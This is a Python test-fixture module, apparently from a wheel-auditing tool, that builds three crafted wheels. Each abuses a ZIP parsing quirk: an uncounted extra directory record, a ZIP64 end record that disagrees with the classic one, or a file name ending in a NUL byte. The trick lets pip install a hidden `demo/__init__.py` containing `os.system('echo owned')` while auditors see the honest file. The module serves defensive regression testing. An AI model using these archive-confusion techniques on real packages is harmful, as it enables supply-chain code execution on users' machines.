"""The three wheels that once passed `wheels` and `audit` while pip installed an attacker's file.

Each is a copy of one honest wheel whose entries are byte-identical; only the records that say
where the entries are, and what they are called, differ. `installed` runs the real pip on one.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from wheelkit import (
    RawMember,
    central_record,
    end_record,
    local_record,
    raw_layout,
    raw_member,
    raw_zip,
    wheel_files,
    zip64_end,
)

WHEEL = "demo-1.0-py3-none-any.whl"
BENIGN = b"def run():\n    return 'benign'\n"
EVIL = b"import os\nos.system('echo owned')\n"
TARGET = "demo/__init__.py"


def honest_members(hidden: bytes = b"") -> list[RawMember]:
    """The honest wheel's entries; `demo/blob.bin` (stored) carries `hidden` as its content."""
    files = {TARGET: BENIGN, "demo/blob.bin": b"blob:" + hidden}
    members = []
    for name, data in wheel_files("demo", "1.0", files).items():
        members.append(raw_member(name, data, method=0 if name.endswith(".bin") else 8))
    return members


def _hidden_evil() -> tuple[RawMember, bytes]:
    evil = raw_member(TARGET, EVIL)
    return evil, local_record(evil)


def base_wheel(directory: Path) -> Path:
    """The honest wheel (with the same hidden bytes the crafted ones carry, so every entry of
    a crafted wheel is identical to its base)."""
    _, hidden = _hidden_evil()
    return _write(directory, raw_zip(honest_members(hidden)))


def one_record_past_the_count(directory: Path) -> Path:
    """1a: the directory holds one more record than its end record counts; the extra one names
    `demo/__init__.py` and points at a local record hidden inside `demo/blob.bin`."""
    evil, hidden = _hidden_evil()
    members = honest_members(hidden)
    body, layout = raw_layout(members)
    blob = next(i for i, m in enumerate(members) if m.name.endswith(b".bin"))
    hidden_at = layout.offsets[blob] + 30 + len(members[blob].name) + len(b"blob:")
    extra = central_record(evil, hidden_at)
    directory_bytes = layout.directory + extra
    archive = body + extra
    archive += end_record(len(members), len(directory_bytes), layout.directory_offset)
    return _write(directory, archive)


def zip64_disagrees(directory: Path) -> Path:
    """1b: the classic end record describes the honest directory; a ZIP64 end record (which
    zipfile prefers whenever its locator is present) describes a second directory whose
    `demo/__init__.py` record points at the hidden local record."""
    evil, hidden = _hidden_evil()
    members = honest_members(hidden)
    body, layout = raw_layout(members)
    blob = next(i for i, m in enumerate(members) if m.name.endswith(b".bin"))
    hidden_at = layout.offsets[blob] + 30 + len(members[blob].name) + len(b"blob:")
    second = b"".join(
        central_record(evil, hidden_at) if m.name == TARGET.encode() else central_record(m, o)
        for m, o in zip(members, layout.offsets, strict=True)
    )
    second_at = len(body)
    archive = body + second
    archive += zip64_end(len(members), len(second), second_at, len(archive))
    archive += end_record(len(members), len(layout.directory), layout.directory_offset)
    return _write(directory, archive)


def name_with_nul(directory: Path) -> Path:
    """1c: a last entry named `demo/__init__.py\\0`, which zipfile reads as `demo/__init__.py`."""
    _, hidden = _hidden_evil()
    members = honest_members(hidden)
    members.append(raw_member(TARGET.encode() + b"\0", EVIL))
    return _write(directory, raw_zip(members))


def _write(directory: Path, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / WHEEL
    path.write_bytes(data)
    return path


def installed(wheel: Path, target: Path) -> bytes:
    """What `pip install --no-deps --no-compile --target` really puts at `demo/__init__.py`."""
    subprocess.run(
        [
            sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--no-compile",
            "--no-index", "--disable-pip-version-check", "--target", str(target), str(wheel),
        ],
        check=True,
        capture_output=True,
    )  # fmt: skip
    return (target / TARGET).read_bytes()
